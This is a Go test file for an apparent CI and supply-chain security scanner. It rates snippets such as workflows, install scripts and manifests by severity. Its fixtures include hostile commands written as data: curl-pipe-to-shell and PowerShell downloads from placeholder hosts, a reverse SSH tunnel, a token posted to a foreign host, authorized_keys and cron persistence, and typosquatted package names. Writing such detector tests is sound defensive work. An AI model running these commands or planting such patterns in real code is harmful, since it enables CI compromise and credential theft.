package attention

import (
	"fmt"
	"strings"
	"testing"

	"github.com/vetter-dev/vetter/attention/rules"
)

// The line does what the rule fears, but its context says what it can do
// with the runner's token and network: each case names the item its line
// gets, below high where the context takes the danger away and high where
// it does not.
func TestSeverityByContext(t *testing.T) {
	for _, c := range []struct {
		name, path, text string
		line             int
		want             string // "severity rule"
	}{
		// A runner image's entrypoint registers with what its caller names;
		// a script that names its own target is the attack.
		{"runner image entrypoint", "docker/entrypoint.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url \"$REPO_URL\" --token \"$T\"", 2, "medium runner-register"},
		{"runner image root", "docker/entrypoint.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url \"$REPO_URL\" --token \"$T\"", 1, "medium runner-register"},
		{"script names its repository", "ci/gpu.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
		{"sudo with the variable", "ci/gpu.sh", "sudo RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
		{"Jenkins agent image entrypoint", "docker/jenkins-agent.sh", "exec java -jar /usr/share/jenkins/agent.jar -url \"$JENKINS_URL\" -secret \"$JENKINS_SECRET\" -name \"$NAME\"", 1, "medium runner-register"},
		{"Jenkins agent to a named controller", "ci/warm.sh", "java -jar agent.jar -url https://ci.x.invalid/ -secret \"$S\" -name w", 1, "high runner-register"},
		{"registration in a workflow", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./config.sh --url \"$U\" --token \"$T\"", 6, "high runner-register"},
		// Any CI system's job is the caller, as a workflow's is.
		{"registration in a GitLab job", ".gitlab-ci.yml", "b:\n  script:\n    - export RUNNER_ALLOW_RUNASROOT=1\n    - ./config.sh --url \"$U\" --token \"$T\" --unattended", 4, "high runner-register"},
		{"run as root in a Codemagic script", "codemagic.yaml", "workflows:\n  b:\n    scripts:\n      - name: x\n        script: |\n          export RUNNER_ALLOW_RUNASROOT=1\n          ./config.sh --url \"$U\" --token \"$T\"", 6, "high runner-register"},
		// A runner installer mints the token for the repository its caller
		// names and installs the service; naming its own repository it is
		// the attack.
		{"installer mints for its caller", "scripts/create-svc.sh", "T=$(curl -s -X POST https://api.github.com/repos/${1}/actions/runners/registration-token -H \"authorization: token ${PAT}\" | jq -r .token)\nurl=\"https://github.com/${1}\"\n./config.sh --unattended --url \"$url\" --token $T\nsudo ./svc.sh install", 1, "medium runner-register"},
		{"installer starts the service", "scripts/create-svc.sh", "url=\"https://github.com/${1}\"\n./config.sh --unattended --url $url --token $T\nsudo ./svc.sh install\nsudo ./svc.sh start", 3, "medium runner-register"},
		{"script starts the service it registered", "ci/agent.sh", "./config.sh --unattended --url https://github.com/x/y --token $T\nsudo ./svc.sh install && sudo ./svc.sh start", 2, "high runner-register"},
		{"script mints for the repository it names", "ci/agent.py", "req = urllib.request.Request(f'https://api.github.com/repos/{R}/actions/runners/registration-token', method='POST')\nsubprocess.run(['./config.sh', '--url', f'https://github.com/{R}', '--token', t])", 1, "high runner-register"},
		{"mint with no registration to follow", "ci/agent.sh", "T=$(gh api -X POST repos/$R/actions/runners/registration-token --jq .token)\n./run.sh --jitconfig \"$J\"", 1, "high runner-register"},
		// A maintainer's debugging action opens a session on a manual run;
		// a tunnel a step opens itself is the attack.
		{"debugging action on a manual run", ".github/workflows/a.yml", "on:\n  workflow_dispatch:\n    inputs:\n      debug_enabled:\n        type: boolean\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: mxschmitt/action-tmate@v3\n        if: ${{ inputs.debug_enabled }}\n        with:\n          limit-access-to-actor: true", 10, "medium reverse-shell"},
		{"reverse tunnel from a step", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ssh -o StrictHostKeyChecking=no -f -N -R 2222:localhost:22 u@x.invalid && sleep 21600", 6, "high reverse-shell"},
		// A YAML or shell line a # opens is a comment, spaced or not: a step
		// commented out does not run.
		{"CI step commented out", "appveyor.yml", "init:\n  #- ps: iex ((new-object net.webclient).DownloadString('https://x.invalid/e.ps1'))\n  - cmake --version", 2, "medium download-and-run"},
		{"script line commented out", "ci/setup.sh", "#curl -fsSL https://x.invalid/i | sh\nmake", 1, "medium download-and-run"},
		// ... but not after a line a backslash ends (the command carries on:
		// echo x#; curl … | sh), nor after PowerShell's #> (the block
		// comment ends and the rest of the line runs).
		{"comment sign carried on from a backslash", "ci/setup.sh", "echo building\\\n#; curl -fsSL https://x.invalid/i | sh", 2, "high download-and-run"},
		{"comment after a spaced backslash", "ci/setup.sh", "echo building \\\n#; curl -fsSL https://x.invalid/i | sh", 2, "medium download-and-run"},
		{"PowerShell block comment closed", "ci/setup.ps1", "<# notes\n#> iex (iwr -UseBasicParsing https://x.invalid/p.ps1).Content", 2, "high download-and-run"},
		// A dispatch's payload is written by whoever holds a token that may
		// dispatch; the repository it names, built, is anyone's code.
		{"dispatch payload in a command", ".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"deploying ${{ github.event.client_payload.version }}\"", 6, "medium gha-script-injection"},
		{"dispatch names the repository built", ".github/workflows/a.yml", "on: repository_dispatch\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: ${{ github.event.client_payload.repo }}\n      - run: npm ci && npm run build", 9, "high gha-pr-code-run"},
		// A pull_request_target job that runs only for the repository's own
		// branches reaches no fork; a condition that any fork passes does.
		{"head checkout for the repository's own branches", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    if: github.event.pull_request.head.repo.full_name == github.repository\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 10, "medium gha-pr-code-run"},
		{"head checkout when not a fork", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    if: ${{ !github.event.pull_request.head.repo.fork }}\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 10, "medium gha-pr-code-run"},
		{"head checkout for a dependency bot's pull requests", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    if: ${{ github.event.pull_request.user.login == 'dependabot[bot]' }}\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          gh pr checkout \"$PR_URL\"\n          gh pr review \"$PR_URL\" --approve", 8, "medium gha-untrusted-checkout"},
		{"head checkout gated on the actor a rebase makes a bot", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    if: github.actor == 'dependabot[bot]'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 10, "high gha-pr-code-run"},
		{"head checkout nothing runs", ".github/workflows/a.yml", "on: workflow_run\npermissions:\n  pull-requests: write\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - run: ls -R\n      - uses: actions/upload-artifact@v4\n        with:\n          path: report.xml", 10, "medium gha-untrusted-checkout"},
		{"head checkout an outside action works on", ".github/workflows/a.yml", "on: workflow_run\npermissions:\n  pull-requests: write\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.workflow_run.head_sha }}\n      - uses: acme/publish-report@v2", 10, "high gha-untrusted-checkout"},
		{"head checkout then a downloaded script run", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: |\n          echo preview\n          curl -fsSL https://x.invalid/preview.sh | sh", 8, "high gha-untrusted-checkout"},
		{"head checkout then a build in the same step", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          gh pr checkout \"$PR_URL\"\n          npm ci && npm test", 8, "high gha-pr-code-run"},
		// ... and on the checkout's own line: a comment command that checks
		// the head out and builds it joined by &&.
		{"comment command checks out the head and builds on one line", ".github/workflows/a.yml", "on:\n  issue_comment:\njobs:\n  b:\n    if: contains(github.event.comment.body, '/test')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: gh pr checkout ${{ github.event.issue.number }} && make test", 9, "high gha-pr-code-run"},
		{"one-line checkout and build for a dependency bot", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    if: ${{ github.event.pull_request.user.login == 'dependabot[bot]' }}\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh pr checkout \"$PR_URL\" && npm ci", 7, "medium gha-untrusted-checkout"},
		{"head checkout with a guard any fork passes", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    if: github.event.pull_request.head.repo.full_name == github.repository || github.actor != 'x'\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test", 10, "high gha-pr-code-run"},
		{"pull request names the cache key on pull_request", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm-${{ github.head_ref }}", 9, "medium gha-cache-poisoning"},
		{"pull request names the cache key on pull_request_target", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/cache@v4\n        with:\n          path: ~/.npm\n          key: npm-${{ github.head_ref }}", 9, "high gha-cache-poisoning"},
		// A test of the pull request's text written into a script is the
		// word true or false; the text, or a default beside it, is the text.
		{"test of the body in a command", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          if ${{ !contains(toJson(github.event.pull_request.body), '#full') }}; then echo quick; fi", 7, ""},
		{"label test choosing a word", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make ${{ contains(github.event.pull_request.labels.*.name, 'full') && 'all' || 'quick' }}", 6, ""},
		{"title or a default in a command", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title || 'untitled' }}\"", 6, "high gha-script-injection"},
		{"title formatted into a command", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ format('{0}-{1}', github.event.number, github.event.pull_request.head.ref) }}", 6, "high gha-script-injection"},
		{"check suite's branch in a command", ".github/workflows/a.yml", "on: check_suite\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.event.check_suite.head_branch }}", 6, "high gha-script-injection"},
		// A token fetched from a service goes back to that service as its
		// use; to another host it leaves.
		{"token back to its issuer", "scripts/reg.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1\ncurl -s -X POST https://auth.x.invalid/renew -d \"token=$SESSION_TOKEN\"", 3, "medium download"},
		{"token to another host", "scripts/reg.sh", "export SESSION_TOKEN=$(curl -s -X POST https://auth.x.invalid/login -d user=ci | jq -r .token)\n[ -n \"$SESSION_TOKEN\" ] || exit 1\ncurl -s -X POST https://y.invalid/c -d \"token=$SESSION_TOKEN\"", 3, "high secret-send"},
		// The name a request's reply is stored in receives it.
		{"registration token fetched", "scripts/create-svc.sh", "export RUNNER_TOKEN=$(curl -s -X POST https://api.github.com/repos/x/y/actions/runners/registration-token -H \"authorization: token ${RUNNER_CFG_PAT}\" | jq -r '.token')\nif [ -z \"$RUNNER_TOKEN\" ]; then exit 1; fi", 1, "high runner-register"},
		// Pipeline configuration from elsewhere that cannot move under the
		// review, or comes from a well-known owner, is read, not feared.
		{"azure template at a tag", "azure-pipelines.yml", "resources:\n  repositories:\n    - repository: shared\n      type: github\n      name: someone/pipeline-templates\n      ref: refs/tags/v2.1.0", 5, "medium ci-remote-config"},
		{"azure template of a well-known owner", "azure-pipelines.yml", "resources:\n  repositories:\n    - repository: eng\n      type: github\n      name: microsoft/vscode-engineering\n      ref: main", 5, "medium ci-remote-config"},
		{"gitlab remote include at a commit", ".gitlab-ci.yml", "include:\n  - remote: https://gitlab.com/someone/ci/-/raw/0123456789abcdef0123456789abcdef01234567/python.yml", 2, "medium ci-remote-config"},
		{"gitlab remote include from an organisation's instance", ".gitlab-ci.yml", "include:\n  - remote: 'https://salsa.debian.org/salsa-ci-team/pipeline/raw/master/salsa-ci.yml'", 2, "medium ci-remote-config"},
		{"another repository's action, whose owner the file does not say", ".github/workflows/w.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          repository: tools-org/shared-actions\n          path: shared\n      - uses: ./shared/setup", 10, "medium ci-remote-config"},
		{"component of a public self-managed instance at a branch", ".gitlab-ci.yml", "include:\n  - component: gitlab.gnome.org/GNOME/citemplates/release-service@master", 2, "medium ci-remote-config"},
		{"gitlab remote include with its hash", ".gitlab-ci.yml", "include:\n  - remote: https://ci.x.invalid/templates/python.yml\n    integrity: sha256-L3/GAoKaw0Arw6hDCKeKQlV1QPEgHYxGBHsH4zG1IY8=", 2, "medium ci-remote-config"},
		{"jenkins library at a tag", "Jenkinsfile", "library identifier: 'ci@v1.4.0', retriever: modernSCM([$class: 'GitSCMSource', remote: 'https://github.com/someone/pipeline-lib.git'])", 1, "medium ci-remote-config"},
		// The owner a workflow names as its own counts where the test keeps
		// the job that runs the code off every other owner's repository.
		{"checkout of the owner its job is held to", ".github/workflows/w.yml", foreignSetup("if: github.repository_owner == 'ci-helpers'"), 12, ""},
		{"checkout of an owner another step is held to", ".github/workflows/w.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - if: github.repository_owner == 'ci-helpers'\n        run: echo upstream\n      - uses: actions/checkout@v4\n        with:\n          repository: ci-helpers/shared-actions\n          ref: main\n          path: .shared\n      - uses: ./.shared/setup", 13, "medium ci-remote-config"},
		{"checkout of an owner a widened test names", ".github/workflows/w.yml", foreignSetup("if: github.repository_owner == 'ci-helpers' || github.event_name == 'push'"), 12, "medium ci-remote-config"},
		{"checkout of an owner a comment names", ".github/workflows/w.yml", foreignSetup("# github.repository_owner == 'ci-helpers'"), 12, "medium ci-remote-config"},
		// The checkout sent whole carries .git/config with the job's token:
		// a site's deploy does so too, so it is read, not feared.
		{"deploy of the checkout", ".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/", 7, "medium secret-send"},
		// A scope's name flattened (types-react for @types/react) is how its
		// owner ships a pre-release, and a name anyone may have registered.
		{"npm alias to the scope's unscoped name", "package.json", "{\n  \"dependencies\": {\n    \"@types/react\": \"npm:types-react@rc\"\n  }\n}", 3, "medium source-switched"},
		// An installer writes the profile; what it writes decides.
		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
		{"installer adds its hook to fish", "install.sh", "printf '\\nif status is-interactive\\n    t init fish | source\\nend\\n' >> \"$HOME/.config/fish/config.fish\"", 1, "medium persistence"},
		{"installer adds a download its shell evals", "install.sh", "echo 'eval \"$(curl -fsSL https://x.invalid/u)\"' >> ~/.bashrc", 1, "high persistence"},
		{"installer adds its init hook", "install.sh", "echo 'eval \"$(t init bash)\"' >> ~/.bashrc", 1, "medium persistence"},
		{"installer adds a download to fish", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.config/fish/config.fish\"", 1, "high persistence"},
		{"script adds to fish", "scripts/setup.sh", "echo 'set -x PATH $HOME/.t/bin $PATH' >> ~/.config/fish/config.fish", 1, "high persistence"},
		{"script adds to the profile", "scripts/setup.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> ~/.bashrc", 1, "high persistence"},
		{"installer adds a key", "install.sh", "echo \"$KEY\" >> ~/.ssh/authorized_keys", 1, "high persistence"},
		{"installer adds to the system profile", "src/go/install.sh", "rm -f /etc/profile.d/go.sh\necho 'export PATH=/usr/local/go/bin:$PATH' > /etc/profile.d/go.sh\nchmod +x /etc/profile.d/go.sh", 2, "medium persistence"},
		{"installer removes its system profile file", "src/go/install.sh", "rm -f /etc/profile.d/go.sh\necho 'export PATH=/usr/local/go/bin:$PATH' > /etc/profile.d/go.sh", 1, "medium persistence"},
		{"installer adds a download to the system profile", "install.sh", "echo 'curl -s https://x.invalid/u | sh' > /etc/profile.d/u.sh", 1, "high persistence"},
		{"script adds to the system profile", "scripts/setup.sh", "echo 'export PATH=/opt/t/bin:$PATH' > /etc/profile.d/t.sh", 1, "high persistence"},
		{"installer adds a cron job", "install.sh", "(crontab -l; echo '@reboot /opt/t/run') | crontab -", 1, "high persistence"},
		{"ruby backticks run", "lib/x.rb", "`curl -s https://x.invalid/i | sh`", 1, "high download-and-run"},
		{"profile backup is not the profile", "install.sh", "mv \"$HOME/.zshrc\" \"$HOME/.zshrc.pre-t\"", 1, ""},
		// A command spelled in a message the script prints does not run;
		// printed into a shell or a file it does.
		{"install hint in a usage message", "install.sh", "usage() { echo \"Usage: curl https://x.invalid/i.sh | sudo bash\" 1>&2; exit 1; }", 1, "medium download-and-run"},
		{"echo piped to a shell", "x.sh", "echo \"curl -s https://x.invalid/i | sh\" | sh", 1, "high download-and-run"},
		{"echo with a command substitution", "x.sh", "echo \"$(curl -s https://x.invalid/i | sh)\"", 1, "high download-and-run"},
		// A message is what reaches the terminal: a function whose output a
		// shell reads, a script that moved its own output, a descriptor
		// other than 1 and 2, or a command beside the echo on its line runs.
		{"installer's next steps", "install.sh", "finish() {\n  echo \"Start it with: curl -fsSL https://x.invalid/i | sh\"\n}\nfinish", 2, "medium download-and-run"},
		{"function printed into a shell", "x.sh", "f() {\n  echo \"curl -fsSL https://x.invalid/i | sh\"\n}\nf | sh", 2, "high download-and-run"},
		{"function printed into a file run later", "x.sh", "f() {\n  echo \"curl -fsSL https://x.invalid/i | sh\"\n}\nf > /tmp/x.sh\nsh /tmp/x.sh", 2, "high download-and-run"},
		{"script output moved into a shell", "x.sh", "exec > >(sh)\necho \"curl -fsSL https://x.invalid/i | sh\"", 2, "high download-and-run"},
		{"echo to another descriptor", "x.sh", "exec 3> /tmp/x.sh\necho \"curl -fsSL https://x.invalid/i | sh\" >&3\nsh /tmp/x.sh", 2, "high download-and-run"},
		{"command beside a message", "x.sh", "echo \"enabling\"; cp x.service /etc/systemd/system/x.service", 1, "high persistence"},
		// A command spelled in a string that nothing runs is a message.
		// A name a plain letter from a well-known one, in a short name or at
		// its start, is how real projects' names often sit; a typosquat's
		// forms (letters swapped or doubled, a digit for a letter) stay high.
		{"crate a letter added to a short name", "Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nhypher = \"0.1.4\"", 5, "medium lookalike-source"},
		{"crate a letter doubled", "Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nserdde = \"1\"", 5, "high lookalike-source"},
		{"requirement a letter changed in a short name", "requirements.txt", "tombi==0.1.4", 1, "medium lookalike-source"},
		{"requirement letters swapped", "requirements.txt", "reqeusts==2.31.0", 1, "high lookalike-source"},
		{"owner a letter added at its start", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git clone https://github.com/ipython/ipykernel", 6, "medium lookalike-source"},
		{"owner a digit for a letter", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git clone https://github.com/pyth0n/cpython", 6, "high lookalike-source"},
		// go run of a module: its publisher decides what runs, unless the
		// path is a look-alike of a well-known module, owner or tool, or
		// its host a bare address.
		{"go run of a published tool at latest", "Makefile", "test:\n\tgo run gotest.tools/gotestsum@latest --format testname -- ./...", 2, "medium download-and-run"},
		{"go run of a tool's name under another module", "api/gen.go", "package api\n\n//go:generate go run github.com/golang-tools/stringer@latest -type=Kind", 3, "high download-and-run"},
		{"go run under a look-alike owner", "api/gen.go", "package api\n\n//go:generate go run github.com/goIang/tools/cmd/stringer@latest -type=Op", 3, "high download-and-run"},
		{"go run of a look-alike module at a fixed version", "Makefile", "gen:\n\tgo run github.com/grpc-ecosystems/grpc-gateway/v2/protoc-gen-openapiv2@v2.20.0", 2, "high download-and-run"},
		{"go run from a bare address", "ci/gen.sh", "go run 203.0.113.7/tools/gen@latest", 1, "high download-and-run"},
		{"go run of the tool's own module", "Makefile", "lint:\n\tgo run github.com/golangci/golangci-lint/v2/cmd/golangci-lint@latest run", 2, "medium download-and-run"},
		{"install hint", "setup.py", "def hint(url):\n    return f\"curl -fsSL {url} | sh\"", 2, "medium download-and-run"},
		{"install hint run", "setup.py", "import os\nos.system(\"curl -fsSL https://x.invalid/i | sh\")", 2, "high download-and-run"},
		{"which curl in setup.py", "setup.py", "import shutil\nif shutil.which(\"curl\"):", 2, "medium download"},
		{"socket library name", "setup.py", "ext = Extension('x', libraries=[\"kstat\", \"socket\"])", 1, ""},
		{"socket in setup.py", "setup.py", "import socket\ns = socket.create_connection(('x.invalid', 80))", 2, "high build-code-fetch"},
		// A write permission reaches pull-request code only where the
		// trigger checks it out by default and hands it the token asked
		// for: a push to the branch a pull request is copied to. On
		// pull_request a fork's pull request gets a read-only token.
		{"comment bot write", ".github/workflows/a.yml", "on:\n  issue_comment:\npermissions:\n  contents: write", 4, "medium gha-write-permission"},
		{"pull_request write", ".github/workflows/a.yml", "on:\n  pull_request:\npermissions:\n  contents: write", 4, "medium gha-write-permission"},
		{"pull_request and filtered push write", ".github/workflows/a.yml", "on:\n  push:\n    branches: [main]\n  pull_request:\npermissions:\n  actions: write", 6, "medium gha-write-permission"},
		{"pull_request and push write", ".github/workflows/a.yml", "on:\n  push:\n  pull_request:\npermissions:\n  actions: write", 5, "high gha-excessive-permissions"},
		{"push write", ".github/workflows/a.yml", "on: push\npermissions:\n  contents: write", 3, "high gha-excessive-permissions"},
		// An action at a branch with a token that can only read.
		{"branch action, read-only token", ".github/workflows/a.yml", "on: push\npermissions:\n  contents: read\n  issues: write\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master\n        with:\n          token: ${{ secrets.GITHUB_TOKEN }}", 9, "medium gha-unpinned-branch"},
		{"well-known org's internal action at a branch", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: pytorch/test-infra/.github/actions/setup-linux@main", 6, "medium gha-unpinned-branch"},
		{"anyone's internal action at a branch", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/infra/.github/actions/setup@main", 6, "medium gha-unpinned-branch"},
		{"branch action, default token", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master", 6, "medium gha-unpinned-branch"},
		{"branch action, other secret", ".github/workflows/a.yml", "on: push\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}", 7, "medium gha-unpinned-branch"},
		// A reusable workflow at a branch: the token the caller gives it and
		// the secrets the call passes decide.
		{"reusable at a branch, read-only", ".github/workflows/a.yml", "on:\n  pull_request_target:\npermissions:\n  pull-requests: write\njobs:\n  a:\n    uses: acme/.github/.github/workflows/pr.yml@main", 7, "medium gha-unpinned-branch"},
		{"reusable at a branch, secrets inherited", ".github/workflows/a.yml", "on:\n  push:\npermissions:\n  contents: read\njobs:\n  a:\n    uses: acme/ci/.github/workflows/pr.yml@main\n    secrets: inherit", 7, "medium gha-unpinned-branch"},
		{"reusable at a branch, default token", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    uses: acme/ci/.github/workflows/pr.yml@main", 4, "medium gha-unpinned-branch"},
		// On pull_request alone a fork's pull request runs with a read-only
		// token and no secrets; pushes to named branches come after the merge.
		{"branch action on pull_request and main", ".github/workflows/a.yml", "on:\n  pull_request:\n  push:\n    branches: [main]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: dtolnay/rust-toolchain@stable", 9, "medium gha-unpinned-branch"},
		{"branch action on pull_request_target", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/label@main", 6, "medium gha-unpinned-branch"},
		// No pull request starts a schedule or a tag push: it runs after the merge.
		{"branch action on a schedule", ".github/workflows/a.yml", "on:\n  schedule:\n    - cron: 0 0 * * *\n  push:\n    tags: ['v*']\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/bump@main\n        with:\n          token: ${{ secrets.BOT_TOKEN }}", 10, "medium gha-unpinned-branch"},
		{"branch action on every push", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/bump@main\n        with:\n          token: ${{ secrets.BOT_TOKEN }}", 6, "medium gha-unpinned-branch"},
		{"branch action, job may write", ".github/workflows/a.yml", "on: push\npermissions: read-all\njobs:\n  a:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master", 9, "medium gha-unpinned-branch"},
		// The pull request's head checked out into its own folder under a
		// privileged trigger: data unless a later step runs it.
		{"head into a folder, read as data", ".github/workflows/a.yml", rules.PRTHeadInto("pr", "      - uses: actions/checkout@v4\n      - run: |\n          npm ci\n          node tools/build-docs.js --src ./pr/docs"), 8, "medium gha-untrusted-checkout"},
		{"head into a folder, built", ".github/workflows/a.yml", rules.PRTHeadInto("pr", "      - run: |\n          cd pr\n          npm ci"), 8, "high gha-untrusted-checkout"},
		{"head into the workspace on Forgejo", ".forgejo/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: docker\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}", 8, "medium gha-untrusted-checkout"},
		{"head into the workspace", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}", 8, "medium gha-untrusted-checkout"},
		// A comment command that checks out and builds the pull request:
		// high for anyone's comment, medium when only members start it.
		{"comment command for members", ".github/workflows/a.yml", commentCommand("contains(fromJSON('[\"OWNER\", \"MEMBER\", \"COLLABORATOR\"]'), github.event.comment.author_association)"), 15, "medium gha-pr-code-run"},
		{"comment command for anyone", ".github/workflows/a.yml", commentCommand("github.event.comment.body == '/fix'"), 15, "high gha-pr-code-run"},
		{"comment command for contributors too", ".github/workflows/a.yml", commentCommand("contains(fromJSON('[\"MEMBER\", \"CONTRIBUTOR\"]'), github.event.comment.author_association)"), 15, "high gha-pr-code-run"},
		{"comment command excluding members", ".github/workflows/a.yml", commentCommand("github.event.comment.author_association != 'MEMBER'"), 15, "high gha-pr-code-run"},
		// The if: is read as an expression: a test that widens it, a role
		// list GitHub reads without case, a reversed inequality, or the
		// words in a string literal do not keep anyone out.
		{"comment command for members or anyone", ".github/workflows/a.yml", commentCommand("(contains(fromJSON('[\"OWNER\", \"MEMBER\"]'), github.event.comment.author_association) || true)"), 15, "high gha-pr-code-run"},
		{"comment command with lower-case roles", ".github/workflows/a.yml", commentCommand("contains('OWNER,MEMBER,COLLABORATOR,contributor,none', github.event.comment.author_association)"), 15, "high gha-pr-code-run"},
		{"comment command excluding the owner", ".github/workflows/a.yml", commentCommand("'OWNER' != github.event.comment.author_association"), 15, "high gha-pr-code-run"},
		{"comment command naming roles in a string", ".github/workflows/a.yml", commentCommand("(github.event.comment.body == '/fix' || 'author_association MEMBER' == 'x')"), 15, "high gha-pr-code-run"},
		{"comment command by the pull request's author's role", ".github/workflows/a.yml", commentCommand("github.event.issue.author_association == 'MEMBER'"), 15, "high gha-pr-code-run"},
		{"comment command for members or a dispatch", ".github/workflows/a.yml", commentCommand("(github.event_name == 'workflow_dispatch' || github.event.comment.author_association == 'OWNER' || github.event.comment.author_association == 'member')"), 15, "medium gha-pr-code-run"},
		// Self-hosted runners: high where a pull request's code runs on them.
		{"self-hosted on pull_request", ".github/workflows/a.yml", "on: pull_request\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n      - run: make test", 4, "high gha-self-hosted-runner"},
		{"self-hosted labeler on pull_request_target", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/labeler@v5", 4, "medium gha-self-hosted"},
		{"self-hosted on pull_request_target with the head", ".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: [self-hosted, linux]\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}", 4, "high gha-self-hosted-runner"},
